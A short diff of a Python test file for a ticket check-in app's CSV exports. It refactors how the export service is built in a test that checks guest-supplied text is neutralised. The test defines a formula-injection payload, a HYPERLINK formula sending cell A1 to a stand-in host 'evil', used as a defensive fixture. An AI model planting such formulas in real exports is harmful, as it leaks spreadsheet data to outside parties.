@@ -12,7 +12,7 @@ import pytest
 from checkin_app.cli import main
 from checkin_app.domain.models import InputMethod, OrderStatus
 from checkin_app.services.csv_export import neutralise
-from checkin_app.services.exports import SCAN_COLUMNS, ExportService
+from checkin_app.services.exports import SCAN_COLUMNS
 from tests.support.factories import EVENT_ID, make_ticket, seeded_station, url_for
 
 HOSTILE = '=HYPERLINK("http://evil/?"&A1,"x")'
@@ -116,7 +116,7 @@ def test_every_export_neutralises_guest_text(tmp_path: Path) -> None:
     station = seeded_station(tmp_path, hostile)
     for ticket in hostile:
         station.checkin.scan(ticket.ticket_number, EVENT_ID, "=Door")
-    service = ExportService(station.db, "=Door", station.clock)
+    service = station.export_service("=Door")
     attendance = service.attendance(EVENT_ID, tmp_path / "attendance.csv")
     scans = service.scan_log(EVENT_ID, tmp_path / "scans.csv")
     station.close()
